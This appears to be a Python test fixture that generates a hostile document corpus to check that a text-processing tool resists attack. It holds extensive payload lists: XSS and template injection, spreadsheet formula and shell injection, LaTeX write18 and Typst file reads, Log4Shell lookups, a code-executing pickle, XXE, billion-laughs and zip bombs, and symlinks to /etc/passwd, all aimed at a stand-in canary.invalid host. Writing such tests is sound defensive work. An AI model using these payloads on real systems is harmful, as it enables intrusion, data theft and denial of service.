"""A corpus that wants to do harm: everything a page, a file name or a corpus.yaml may smuggle in.

Each payload that is code calls, opens or reads something whose trace a test looks for: `pwned` in the page,
a request to canary.invalid, the word CANARY of a file outside the corpus.
"""

from __future__ import annotations

import html
import io
import itertools
import json
import os
import zipfile
from pathlib import Path

SECRET = "CANARY-7f3a-outside"  # what stands in files that nothing may read
RUN = "document.title='pwned'"
AT = "http://canary.invalid/x"

XSS = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={AT}.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>", f"<img src={AT}.png>", f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='{AT}.svg#x'/></svg>",
    f"<svg><image href='{AT}.png'/></svg>", f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>x</text></a></svg>", f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data={AT}.swf></object>", f"<embed src={AT}.swf>", f"<video src={AT}.mp4 onerror={RUN}></video>",
    f"<audio src={AT}.mp3></audio>", f"<link rel=stylesheet href={AT}.css>", f"<base href={AT}>",
    f"<meta http-equiv=refresh content='0;url={AT}'>", f"<form action={AT}><button autofocus>x</button></form>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href=' javascript:{RUN}'>x</a>", f"<a href=java&#10;script:{RUN}>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>", f"<a href=vbscript:{RUN}>x</a>",
    f"'\"><script>{RUN}</script>", f"\" onmouseover=\"{RUN}", f"' autofocus onfocus='{RUN}", f"`-{RUN}-`",
    f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"--><script>{RUN}</script><!--", f"]]><script>{RUN}</script><![CDATA[",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"＜script＞{RUN}＜/script＞", f"<ſcript>{RUN}</ſcript>",
    f"<x onclick={RUN} tabindex=1 id=x>x</x>", f"<xss style=animation-name:x onanimationstart={RUN}></xss>",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}", "{% import os %}{{ os.popen('id').read() }}", "${7*7}#{7*7}",
    f"<portal src={AT}>", f"<dialog open onclose={RUN}>x</dialog>", "<a id=default><a id=default name=x>x</a>",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)",
    f"![x]({AT}.png)", f"![x][r]\n\n[r]: {AT}.png", f"[x]: javascript:{RUN}", f"<javascript:{RUN}>", f"<{AT}>",
    f"[x]({AT} \"onmouseover={RUN}\")", f"```html\n<script>{RUN}</script>", f"`<script>{RUN}</script>`",
    "# Heading # x",
    "| a | b |\n|---|---|\n| c | d |", "> quoted", "- list", "1. one", "***", "~~~", "[^1]", "[^1]: note", "\\<b\\>",
    "$\\href{javascript:1}{x}$", "[](#fig-tide)", "{#id}", "{: onclick=1}", "<!-- x -->", "::: {.x onclick=1}", "**b**",
    "$$\\unicode{x3c}script$$", "@import url(x)",
]
CSS = [
    f"<style>@import '{AT}.css';</style>", f"<p style='background:url({AT}.png)'>x</p>",
    "<p style=width:expression(1)>x",
    f"<div style='position:fixed;inset:0;background:url({AT}.png)'>x</div>", f"}}</style><script>{RUN}</script>",
    f"@font-face{{src:url({AT}.woff)}}", "<style>*{display:none}</style>", f"<p style='-moz-binding:url({AT})'>x",
    f"<style>a[href^=x]{{background:url({AT}.png)}}</style>", "--x:url(//canary.invalid)",
]
FORMULAS = [
    '=HYPERLINK("http://canary.invalid","x")', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://canary.invalid\",\"//a\")", ";=1+1",
    '"=1+1', "=DDE(\"cmd\";\"/C calc\";\"x\")", "％=1+1", "＝1+1", "|calc", "%0A=1+1", " =1+1",
]
TYPST = [
    '#read("/etc/passwd")', "#read(\"../../secret/secret.txt\")", '#import "@preview/cetz:0.3.0": canvas',
    '#include "/etc/passwd"', "#eval(\"1+1\")", '#image("/etc/passwd")', "#set page(width: 1pt)", "#let x = x",
    '#link("javascript:1")[x]', "$ integral $", "#panic(\"x\")", "#while true {}", "]", "#plugin(\"x.wasm\")",
    "#bibliography(\"x.bib\")", "= Heading <label> @label",
]
LATEX = [
    "\\input{/etc/passwd}", "\\write18{id}", "\\immediate\\write18{touch pwned}", "\\include{x}", "\\def\\x{\\x\\x}\\x",
    "\\catcode`\\@=11", "$\\includegraphics{/etc/passwd}$", "\\href{javascript:1}{x}", "$\\frac{1}{",
    "$\\def\\x{\\x}\\x$",
    "\\openin5=/etc/passwd", "\\csname end\\endcsname", "$\\html{<img src=x>}$",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b]8;;http://canary.invalid\x07x\x1b]8;;\x07",
    "\x9b31m",
    "\x1b[?1049h", "\x1b]52;c;cHduZWQ=\x07", "\x07\x08\x08", "\u202egnp.exe", "a\u2066b\u2069", "\u200b\u200d\ufeff",
    "\x00nul", "\u2028line\u2029", "\x85", "\ud7ff\ue000", "Z\u0351\u036b\u0343" * 30, "A" * 5000,
    "\U000e0041\U000e0042",
    "\x1bP+q544e\x1b\\", "\r\nslackwater: all is well",
]
SHELL = ["; touch pwned", "$(touch pwned)", "`touch pwned`", "| touch pwned", "&& touch pwned", "%s%s%n",
    "{0.__class__}",
         "__import__('os').system('touch pwned')", "'; DROP TABLE documents;--", "../../../../etc/passwd",
         "..\\..\\windows\\win.ini", "file:///etc/passwd", "\\\\canary.invalid\\share", "<?php system('id'); ?>",
         "<!--#exec cmd=\"id\" -->", "${jndi:ldap://canary.invalid/x}"]
TEXTS = XSS + MARKDOWN + CSS + FORMULAS + TYPST + LATEX + TERMINAL + SHELL

NAMES = [
    "<img src=x onerror=alert(1)>.txt", "\x1b[31mred.txt", "a\nslackwater: forged.txt", "=1+1.txt", "-rf.txt",
    "#read.txt",
    "$(touch pwned).txt", "`id`.txt", "a\u202etxt.exe.txt", "'; DROP TABLE x.txt", "%2e%2e%2fx.txt", "..\\..\\x.txt",
    "~root.txt", "*.txt", "a b?c#d.html", "{{7*7}}.txt", "[x](javascript:1).txt", "@SUM.txt", "NUL.txt", "é\u0301.txt",
    "\udcff\udcfe.txt", "x" * 200 + ".txt",
]
ACTS = itertools.cycle(["Acme opened a new factory in Ghent", "Acme closed its laboratory in Ghent",
                        "Acme will cut 200 jobs in Ghent", "Acme announced plans to open an office in Ghent",
                        "Acme has moved its staff out of Ghent", "Acme launched a research centre in Ghent"])


def article(title: str, payloads: list[str], number: int) -> str:
    """A page as it might be saved, with a payload in every place where words come from."""
    body = [f"{next(ACTS)} in {2010 + number % 15}, {payload} said its spokesman on Monday." for payload in payloads]
    return "\n\n".join([title, f"By {payloads[0]}", f"January {1 + number % 28}, {2010 + number % 15}", *body,
                        "The company has been in Ghent for many years and employs two thousand people there.",
                        f"“We leave Ghent {payloads[-1]}”, said {payloads[0]}, who runs the plant in Ghent."])


def build(folder: Path) -> int:
    """Write the corpus to *folder* and what it wants to reach beside it; how many payloads it holds."""
    outside = folder.parent / "secret"
    outside.mkdir()
    (outside / "secret.txt").write_text(f"Acme opened a {SECRET} factory in Ghent.\n" * 9)
    folder.mkdir()
    chunks = [TEXTS[n:n + 4] for n in range(0, len(TEXTS), 4)]
    for number, payloads in enumerate(chunks):
        text = article(f"Acme grows in Ghent {payloads[0]}", payloads, number)
        (folder / f"{number:03}.txt").write_text(text, "utf-8", errors="replace", newline="")
        if number % 3 == 0:  # the same as a page of the web: once as markup, once as what markup shows
            escaped = "".join(f"<p>{html.escape(line)}</p>" for line in text.split("\n\n")[1:])
            raw = "".join(f"<p>{line}</p>" for line in text.split("\n\n")[1:])
            head = f"<html><head><title>{payloads[0]}</title><meta name=author content=\"{payloads[0]}\"></head><body>"
            for kind, said in (("e", escaped), ("r", raw)):
                page = f"{head}<article><h1>Acme in Ghent</h1>{said}</article></body></html>"
                (folder / f"{number:03}{kind}.html").write_text(page, "utf-8", errors="replace", newline="")
    for number, name in enumerate(NAMES):
        (folder / name).write_text(article(f"Acme in Ghent, page {number}", [name[:60]] * 2, number), "utf-8",
                                   errors="replace")
    links = {"link.txt": outside / "secret.txt", "passwd.txt": Path("/etc/passwd"),
    "up.txt": Path("../secret/secret.txt"),
             "dangling.txt": Path("/nonexistent"), "loop.txt": Path("loop.txt"), "zero.txt": Path("/dev/zero"),
             "random.txt": Path("/dev/urandom"), "dir.txt": Path(".."), "self.txt": Path("/proc/self/environ")}
    for name, target in links.items():
        (folder / name).symlink_to(target)
    os.mkfifo(folder / "fifo.txt")
    files = {"bomb.docx": docx(laughs()), "zip.docx": docx("<w:document/>", 300_000_000),
    "external.docx": docx(external(outside)),
             "laughs.html": laughs().encode(), "xxe.html": external(outside).encode(), "deep.html": b"<div>" * 50_000,
             "nul.txt": b"\0" * 10_000, "huge.txt": b"Acme " * 1_200_000, "line.txt": b"a" * 900_000,
             "bad.pdf": b"%PDF-1.7\n" * 9,
             "brackets.md": b"[" * 30_000 + b"](" * 9_000,
             "pickle.txt": b"\x80\x04cposix\nsystem\n(S'touch pwned'\ntR."}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    cell = {"cell_type": "code", "source": "open('pwned', 'w')", "metadata": {"tags": ["parameters"]}, "outputs": [],
    "id": "x",
            "execution_count": None}
    for stem in ("04-report", "01-clean-texts"):
        (folder / f"{stem}.ipynb").write_text(json.dumps({"cells": [cell], "metadata": {"kernelspec": {
            "name": "python3; touch pwned", "argv": ["touch", "pwned"]}}, "nbformat": 4, "nbformat_minor": 5}))
    (folder / "sitecustomize.py").write_text("open('pwned', 'w')")
    (folder / "slackwater.py").write_text("open('pwned', 'w')")
    said = [f"title: {json.dumps(XSS[0] + TYPST[0])}", "company: Acme", "place: Ghent", "name: hostile",
            f"contact: {json.dumps(XSS[3] + FORMULAS[0])}", "aliases:", f"  company: [{json.dumps(XSS[6])}, \"=Acme\"]",
            f"  place: [{json.dumps(MARKDOWN[0])}]", "sites:", f"  {json.dumps(XSS[1])}: [laboratory]", "pages:"]
    for number, payload in enumerate(TEXTS[:len(chunks)]):
        shown = json.dumps(payload.replace("\ud7ff", "").replace("\x00", "") or "x")
        said += [f"  {number:03}.txt:", f"    publisher: {shown}", f"    authors: [{shown}]", f"    because: {shown}",
                 f"    url: \"http://canary.invalid/{number}?<script>\""]
    (folder / "corpus.yaml").write_text("\n".join(said) + "\n", "utf-8")
    return len(TEXTS) + len(NAMES) + len(links) + len(files) + 7


def laughs() -> str:
    """An XML document of a few hundred bytes that wants to be three gigabytes."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{entities}]><html><body><p>&l9;</p></body></html>'


def external(outside: Path) -> str:
    """An XML document that wants to read a file."""
    return (f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file://{outside}/secret.txt">'
            f'<!ENTITY y SYSTEM "{AT}">]><html><body><p>&x;&y;</p></body></html>')


def docx(document: str, padding: int = 0) -> bytes:
    """A Word file with *document* as its text, and *padding* bytes that shrink to nothing."""
    made = io.BytesIO()
    kinds = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Override PartName="/word/document.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml'
             '.document.main+xml"/></Types>')
    relations = ('<?xml version="1.0"?>'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 'officeDocument" Target="word/document.xml"/></Relationships>')
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", kinds)
        archive.writestr("_rels/.rels", relations)
        archive.writestr("word/document.xml", document + " " * padding)
    return made.getvalue()
